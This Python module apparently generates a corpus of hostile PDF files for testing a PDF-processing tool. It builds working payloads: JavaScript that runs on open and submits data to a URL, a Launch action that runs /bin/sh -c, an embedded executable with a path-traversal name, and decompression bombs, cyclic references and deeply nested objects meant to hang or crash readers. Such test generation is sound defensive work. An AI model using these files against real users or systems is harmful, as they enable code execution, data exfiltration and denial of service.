"""PDF files that bomb, loop, run or hide something."""

import io
import zlib
from collections.abc import Sequence

from hostile.given import Given, Hostile, Kind
from reportlab.lib import pdfencrypt
from reportlab.pdfgen.canvas import Canvas

FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>%s>>"
CATALOG, PAGES = b"<</Type/Catalog/Pages 2 0 R%s>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
DEPTH = 1_000_000
MEGABYTE = 1_000_000


def stream(content: bytes, more: bytes = b"") -> bytes:
    """A stream object."""
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (more, len(content), content)


def shown(given: Given) -> bytes:
    """What draws the text."""
    return b"BT /F1 11 Tf 60 760 Td (%s) Tj ET" % given.text.encode("cp1252")


def pdf(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """A file of these objects, numbered from 1; the first is the catalog."""
    content, places = b"%PDF-1.7\n", list[int]()
    for number, body in enumerate(objects, 1):
        places.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(content)
    content += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    content += b"".join(b"%010d 00000 n \n" % place for place in places)
    return content + b"trailer <</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, trailer, start)


def one_page(given: Given, catalog: bytes = b"", page: bytes = b"", *others: bytes) -> bytes:
    """A page with the text; `others` are numbered from 6."""
    return pdf([CATALOG % catalog, PAGES, PAGE % page, stream(shown(given)), FONT, *others])


def encrypted(given: Given) -> Hostile:
    """A file that asks for a password."""
    file, bits = io.BytesIO(), (40, 128)[given.number % 2]
    lock = pdfencrypt.StandardEncryption("ouvert", "maître", canPrint=0, strength=bits)
    canvas = Canvas(file, encrypt=lock, invariant=1)
    canvas.drawString(60, 760, given.text)
    canvas.save()
    return Hostile("refused", "pdf", file.getvalue())


def script(given: Given) -> Hostile:
    """JavaScript that runs on opening, from the catalog, a name tree or a page."""
    code = b"app.launchURL('%s', true); this.submitForm('%s');" % (given.url.encode(), given.url.encode())
    action = b"<</S/JavaScript/JS(%s)>>" % code.replace(b"(", rb"\(").replace(b")", rb"\)")
    places = (
        (b"/OpenAction 6 0 R", b""),
        (b"/Names<</JavaScript<</Names[(a) 6 0 R]>>>>", b""),
        (b"", b"/AA<</O 6 0 R>>"),
    )
    return Hostile("read", "pdf", one_page(given, *places[given.number % 3], action))


def launch(given: Given) -> Hostile:
    """An action that starts a program, opens an address or goes to another file."""
    secret, url = str(given.secret).encode(), given.url.encode()
    actions = (
        b"<</S/Launch/F(/bin/sh)/Unix(-c %s)>>" % given.trace.encode(),
        b"<</S/URI/URI(%s)>>" % url,
        b"<</S/GoToR/F<</FS/URL/F(%s)>>/D[0/Fit]>>" % url,
        b"<</S/SubmitForm/F<</FS/URL/F(%s)>>/Flags 4>>" % url,
        b"<</S/ImportData/F(%s)>>" % secret,
    )
    action = actions[given.number % len(actions)]
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A %s>>" % action
    return Hostile("read", "pdf", one_page(given, b"/OpenAction 6 0 R", b"/Annots[7 0 R]", action, link))


def outside(given: Given) -> Hostile:
    """A content stream, a form and a picture that are other files."""
    place = (b"<</FS/URL/F(%s)>>" % given.url.encode(), b"(%s)" % str(given.secret).encode())[given.number % 2]
    picture = stream(
        b"", b"/Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/F " + place
    )
    objects = [CATALOG % b"", PAGES, PAGE.replace(b"4 0 R", b"[4 0 R 7 0 R]") % b"", stream(shown(given)), FONT]
    return Hostile("either", "pdf", pdf([*objects, picture, stream(b"", b"/F " + place)]))


def embedded(given: Given) -> Hostile:
    """A program as an attachment."""
    program = stream(b"MZ" + given.trace.encode() * 100, b"/Type/EmbeddedFile")
    file = b"<</Type/Filespec/F(../../%s.exe)/EF<</F 6 0 R>>>>" % given.mark.encode()
    names = b"/Names<</EmbeddedFiles<</Names[(x) 7 0 R]>>>>"
    return Hostile("read", "pdf", one_page(given, names, b"", program, file))


def many_pages(given: Given) -> Hostile:
    """10,000 pages."""
    count = 10_000
    kids = b" ".join(b"%d 0 R" % (number + 5) for number in range(count))
    pages = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count)
    page = PAGE.replace(b"4 0 R", b"3 0 R").replace(b"5 0 R", b"4 0 R") % b""
    return Hostile("either", "pdf", pdf([CATALOG % b"", pages, stream(shown(given)), FONT, *[page] * count]))


def cyclic_pages(given: Given) -> Hostile:
    """A page tree that holds itself, or that is a chain of 10,000 nodes."""
    if given.number % 2:
        chain = [b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (at + 3, at + 1) for at in range(10_000)]
        return Hostile("either", "pdf", pdf([CATALOG % b"", *chain, PAGE % b""]))
    pages = b"<</Type/Pages/Kids[3 0 R 2 0 R 2 0 R]/Count 99999999/Parent 2 0 R>>"
    return Hostile("either", "pdf", pdf([CATALOG % b"", pages, PAGE % b"", stream(shown(given)), FONT]))


def cyclic_tables(given: Given) -> Hostile:
    """Cross-reference tables that point at themselves or at nothing."""
    content = one_page(given)
    start = content.rindex(b"xref\n0")
    places = start, len(content) * 9, 0, 2**63
    return Hostile("either", "pdf", content.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % places[given.number % 4]))


def cyclic_objects(given: Given) -> Hostile:
    """References in a ring: lengths, contents, parents, forms, names."""
    rings = (
        [CATALOG % b"", PAGES, PAGE % b"", b"<</Length 4 0 R>>stream\nBT\nendstream", FONT],
        [CATALOG % b"", PAGES, PAGE.replace(b"4 0 R", b"[4 0 R 4 0 R]") % b"", b"[4 0 R 4 0 R]", FONT],
        [CATALOG % b"/Outlines 1 0 R/AcroForm 1 0 R/Names 1 0 R", b"2 0 R", PAGE % b"", b"4 0 R", b"5 0 R"],
        [
            CATALOG % b"",
            PAGES,
            PAGE.replace(b"<</Font", b"<</XObject<</X 6 0 R>>/Font") % b"",
            stream(b"/X Do"),
            FONT,
            stream(b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"),
        ],
    )
    return Hostile("either", "pdf", pdf(rings[given.number % len(rings)]))


def huge_picture(given: Given) -> Hostile:
    """A picture of 100,000 by 100,000 pixels."""
    packed = zlib.compress(bytes(MEGABYTE))
    size = b"/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode"
    picture = stream(packed, b"/Type/XObject/Subtype/Image" + size)
    page = PAGE.replace(b"<</Font", b"<</XObject<</X 6 0 R>>/Font") % b""
    content = stream(shown(given) + b" q 595 0 0 842 0 0 cm /X Do Q")
    return Hostile("read", "pdf", pdf([CATALOG % b"", PAGES, page, content, FONT, picture]))


def content_bomb(given: Given) -> Hostile:
    """A content stream, or a stream of objects, that inflates to 4 GB."""
    packer = zlib.compressobj(9)
    block = b"q Q BT (bombe) Tj ET\n" * (MEGABYTE // 21)
    start = packer.compress(shown(given) + b"\n") + packer.flush(zlib.Z_FULL_FLUSH)
    once = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = start + once * 4000 + packer.flush()
    if given.number % 2:
        objects = stream(packed, b"/Type/ObjStm/N 100000/First 20/Filter/FlateDecode")
        return Hostile("either", "pdf", one_page(given, b"", b"", objects, b"<</Extends 6 0 R>>"))
    page = [CATALOG % b"", PAGES, PAGE % b"", stream(packed, b"/Filter/FlateDecode"), FONT]
    return Hostile("either", "pdf", pdf(page))


def filters(given: Given) -> Hostile:
    """A stream behind 1,000 filters, or behind one that grows at each of ten."""
    if given.number % 2:
        names = b"/Filter[%s]" % (b"/ASCIIHexDecode" * 1000)
        return Hostile("either", "pdf", pdf([CATALOG % b"", PAGES, PAGE % b"", stream(b"41" * 999, names), FONT]))
    content = bytes(100 * MEGABYTE)
    for _ in range(3):
        content = zlib.compress(content, 9)
    names = b"/Filter[/FlateDecode/FlateDecode/FlateDecode]"
    return Hostile("either", "pdf", pdf([CATALOG % b"", PAGES, PAGE % b"", stream(content, names), FONT]))


def odd_sizes(given: Given) -> Hostile:
    """Pages of no size, of a negative one, of one that is no number."""
    sizes = (
        b"0 0 0 0",
        b"0 0 -595 -842",
        b"0 0 1e30 1e30",
        b"nan inf 1 2",
        b"",
        b"0 0 2147483648 9",
        b"(a) [b] <</c 1>> null",
    )
    content = one_page(given).replace(b"0 0 595 842", sizes[given.number % len(sizes)])
    return Hostile("either", "pdf", content)


def deep_arrays(given: Given) -> Hostile:
    """A million arrays, dictionaries or marked contents, each in the one before."""
    opened, closed = ((b"[", b"]"), (b"<</a", b">>"), (b"q ", b" Q"), (b"/a BMC ", b" EMC"))[given.number % 4]
    deep = opened * DEPTH + closed * DEPTH
    if given.number % 4 > 1:
        page = [CATALOG % b"", PAGES, PAGE % b"", stream(deep + shown(given)), FONT]
        return Hostile("either", "pdf", pdf(page))
    return Hostile("either", "pdf", one_page(given, b"/X 6 0 R", b"/X " + deep[:2000], deep))


def odd_fonts(given: Given) -> Hostile:
    """Fonts whose tables of characters lie: to the text, to its codes, to themselves."""
    table = b"1 begincodespacerange <00> <ff> endcodespacerange 1 beginbfrange <00> <ff> <%s> endbfrange"
    wrong = (b"D800", b"0000", b"00410042" * 5000, b"")[given.number % 4]
    font = FONT.replace(b"/Type/Font", b"/Type/Font/ToUnicode 6 0 R")
    page = [CATALOG % b"", PAGES, PAGE % b"", stream(shown(given)), font]
    return Hostile("either", "pdf", pdf([*page, stream(table % wrong)]))


KINDS = {
    "pdfpassword": Kind(encrypted, 8),
    "pdfscript": Kind(script, 9),
    "pdflaunch": Kind(launch, 10),
    "pdfoutside": Kind(outside, 6),
    "pdfembedded": Kind(embedded, 6),
    "pdfpages": Kind(many_pages, 2),
    "pdfpagering": Kind(cyclic_pages, 2),
    "pdftablering": Kind(cyclic_tables, 8),
    "pdfobjectring": Kind(cyclic_objects, 8),
    "pdfpicture": Kind(huge_picture, 4),
    "pdfbomb": Kind(content_bomb, 2),
    "pdffilters": Kind(filters, 4),
    "pdfsizes": Kind(odd_sizes, 7),
    "pdfdeep": Kind(deep_arrays, 4),
    "pdffonts": Kind(odd_fonts, 8),
}
